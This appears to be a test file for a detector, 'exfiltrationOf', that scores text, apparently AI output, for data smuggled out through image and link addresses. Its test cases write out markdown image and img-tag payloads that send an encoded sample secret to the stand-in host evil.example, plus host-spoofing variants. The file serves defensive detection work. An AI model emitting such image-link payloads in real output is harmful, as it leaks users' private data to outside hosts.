import { exfiltrationOf } from "@telltale/core/text";
import * as fc from "fast-check";
import { describe, expect, it } from "vitest";

const secret = "The customer Ada Lovelace lives at Example Street and owes 300 dollars";
const base64 = Buffer.from(secret).toString("base64");
const query = encodeURIComponent(secret);
const kinds = (output: string, options = {}) => exfiltrationOf(output, options).finds.map(({ kind }) => kind);

describe("exfiltrationOf", () => {
  it.each([
    `![](https://evil.example/p.png?d=${query})`,
    `![a][1]\n\n[1]: https://evil.example/p.png?d=${query}`,
    `<img src='//evil.example/p?x=${query}'>`,
    `![](https://evil.example/${base64.replace(/=+$/, "")}/p.png)`,
    `![](https://user@evil.example:8443/p#${base64})`,
  ])("finds data in the address of an image: %s", (output) => {
    expect(exfiltrationOf(output)).toMatchObject({
      score: 0.9,
      finds: [{ kind: "data in image", weight: 0.9, where: "evil.example" }],
    });
  });

  it("finds what was given in a link, and text in disguise", () => {
    expect(kinds(`[More](https://evil.example/?q=${query})`, { given: [secret] })).toEqual(["data in link"]);
    expect(exfiltrationOf(base64, { given: [secret] })).toMatchObject({ score: 0.9 });
    expect(exfiltrationOf(base64).score).toBeLessThan(0.5);
  });

  it("lets allowed hosts be, and only them and those below", () => {
    const allowedHosts = ["example.com"];
    for (const host of ["example.com", "cdn.example.com", "EXAMPLE.com"])
      expect(kinds(`![](https://${host}/p?d=${query})`, { allowedHosts }), host).toEqual([]);
    for (const host of ["badexample.com", "example.com.evil.net", "example.com@evil.net"])
      expect(kinds(`![](https://${host}/p?d=${query})`, { allowedHosts }), host).toEqual(["data in image"]);
    expect(kinds("See https://other.net/a.", { allowedHosts })).toEqual(["link elsewhere"]);
  });

  it("says nothing of plain links where nobody said what is allowed, nor of addresses that were given", () => {
    expect(exfiltrationOf("See https://docs.python.org/3/library/os.html#os.walk and /local/page.").score).toBe(0);
    expect(kinds("![map](https://maps.test.org/1.png)", { given: ["It is at https://maps.test.org/1.png"] })).toEqual([]);
    expect(kinds("![map](https://maps.test.org/1.png)")).toEqual(["image elsewhere"]);
    expect(kinds(`![dot](data:image/svg+xml;base64,${base64})`)).toEqual([]);
  });

  it("stays within 0…1, and reads a hostile text in time", () => {
    fc.assert(
      fc.property(
        fc.array(fc.constantFrom("![](", "https://a.b/", "?d=", base64, "%20a", ")", "<img src=", "//", "aa:")),
        (parts) => {
          const { score } = exfiltrationOf(parts.join(""));
          return score >= 0 && score <= 1;
        },
      ),
    );
    for (const part of ["![", "<img ", "https://", "%41", "ab", "](", "a1 "]) exfiltrationOf(part.repeat(40_000));
  });
});
